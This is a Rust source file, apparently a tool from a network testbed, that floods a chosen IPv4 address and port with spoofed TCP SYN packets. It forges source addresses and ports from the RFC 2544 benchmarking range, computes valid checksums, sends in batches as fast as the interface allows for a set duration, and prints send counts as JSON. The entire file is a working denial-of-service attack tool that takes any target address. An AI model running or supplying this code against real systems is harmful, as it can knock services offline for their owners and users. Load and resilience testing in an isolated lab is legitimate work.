//! A flood of spoofed SYNs: each from a random address of 198.18.0.0/15 (RFC 2544, benchmarking) and a random port,
//! with a random sequence number and correct checksums. Bounded in time; says at its end, as JSON, how many it sent.

use std::io;
use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

use clap::Parser;
use testbed_tools::{Mac, PacketSocket, parse_duration, parse_mac};

/// Sends SYNs with forged sources.
#[derive(Parser)]
struct Arguments {
    /// The interface to send from.
    #[arg(long)]
    interface: String,
    /// Ethernet source.
    #[arg(long, value_parser = parse_mac)]
    from: Mac,
    /// Ethernet destination.
    #[arg(long, value_parser = parse_mac)]
    to: Mac,
    /// The address under attack.
    #[arg(long)]
    address: Ipv4Addr,
    /// Its port.
    #[arg(long, default_value_t = 80)]
    port: u16,
    /// For how long.
    #[arg(long, value_parser = parse_duration)]
    duration: Duration,
    /// SYNs a second; 0: as fast as they go.
    #[arg(long, default_value_t = 0)]
    rate: u64,
}

const BATCH: usize = 64;
/// Ethernet, IPv4, TCP with the MSS option, and two bytes to Ethernet's least length.
const LENGTH: usize = 60;
const IP: usize = 14;
const TCP: usize = 34;
const TCP_LENGTH: usize = 24;

fn main() -> io::Result<()> {
    let arguments = Arguments::parse();
    let socket = PacketSocket::sender(&arguments.interface)?;
    let mut frames = [template(&arguments); BATCH];
    let mut random = 0x9e37_79b9_7f4a_7c15_u64 ^ u64::from(std::process::id());
    let (mut sent, mut refused) = (0_u64, 0_u64);
    let begun = Instant::now();
    while begun.elapsed() < arguments.duration {
        for frame in &mut frames {
            forge(frame, next(&mut random), next(&mut random));
        }
        match socket.send_many(&mut frames) {
            Ok(count) => sent += count as u64,
            // The interface's queue is full: this is the highest rate it carries.
            Err(error) if matches!(error.raw_os_error(), Some(libc::ENOBUFS | libc::EAGAIN)) => refused += 1,
            Err(error) => return Err(error),
        }
        if let Some(due) = sent.saturating_mul(1_000_000_000).checked_div(arguments.rate) {
            std::thread::sleep(Duration::from_nanos(due).saturating_sub(begun.elapsed()));
        }
    }
    let seconds = begun.elapsed().as_secs_f64();
    let rate = sent as f64 / seconds;
    println!(r#"{{"sent":{sent},"refused":{refused},"seconds":{seconds:.3},"rate":{rate:.0}}}"#);
    Ok(())
}

fn template(arguments: &Arguments) -> [u8; LENGTH] {
    let mut frame = [0; LENGTH];
    frame[0..6].copy_from_slice(&arguments.to);
    frame[6..12].copy_from_slice(&arguments.from);
    frame[12..14].copy_from_slice(&[0x08, 0x00]);
    frame[IP] = 0x45;
    frame[IP + 2..IP + 4].copy_from_slice(&((20 + TCP_LENGTH) as u16).to_be_bytes());
    frame[IP + 8] = 64;
    frame[IP + 9] = 6;
    frame[IP + 16..IP + 20].copy_from_slice(&arguments.address.octets());
    frame[TCP + 2..TCP + 4].copy_from_slice(&arguments.port.to_be_bytes());
    frame[TCP + 12] = 0x60;
    frame[TCP + 13] = 0x02;
    frame[TCP + 14..TCP + 16].copy_from_slice(&64_240_u16.to_be_bytes());
    frame[TCP + 20..TCP + 24].copy_from_slice(&[2, 4, 0x05, 0xb4]);
    frame
}

/// Gives the frame another source and sequence number, and the checksums that go with them.
fn forge(frame: &mut [u8; LENGTH], one: u64, other: u64) {
    let source = 0xc612_0000 | (one as u32 & 0x0001_ffff);
    let port = 1024 + (one >> 32) as u16 % 64_000;
    frame[IP + 4..IP + 6].copy_from_slice(&((one >> 48) as u16).to_be_bytes());
    frame[IP + 10..IP + 12].fill(0);
    frame[IP + 12..IP + 16].copy_from_slice(&source.to_be_bytes());
    frame[TCP..TCP + 2].copy_from_slice(&port.to_be_bytes());
    frame[TCP + 4..TCP + 8].copy_from_slice(&(other as u32).to_be_bytes());
    frame[TCP + 16..TCP + 18].fill(0);
    let header = fold(sum(&frame[IP..IP + 20]));
    frame[IP + 10..IP + 12].copy_from_slice(&header.to_be_bytes());
    // The pseudo header: both addresses, the protocol, the length (RFC 9293, section 3.1).
    let pseudo = sum(&frame[IP + 12..IP + 20]) + 6 + TCP_LENGTH as u32;
    let segment = fold(pseudo + sum(&frame[TCP..TCP + TCP_LENGTH]));
    frame[TCP + 16..TCP + 18].copy_from_slice(&segment.to_be_bytes());
}

fn sum(bytes: &[u8]) -> u32 {
    bytes.chunks_exact(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]]))).sum()
}

fn fold(mut sum: u32) -> u16 {
    while sum >> 16 != 0 {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// xorshift64*: plenty for sources that only have to differ.
fn next(state: &mut u64) -> u64 {
    *state ^= *state >> 12;
    *state ^= *state << 25;
    *state ^= *state >> 27;
    state.wrapping_mul(0x2545_f491_4f6c_dd1d)
}
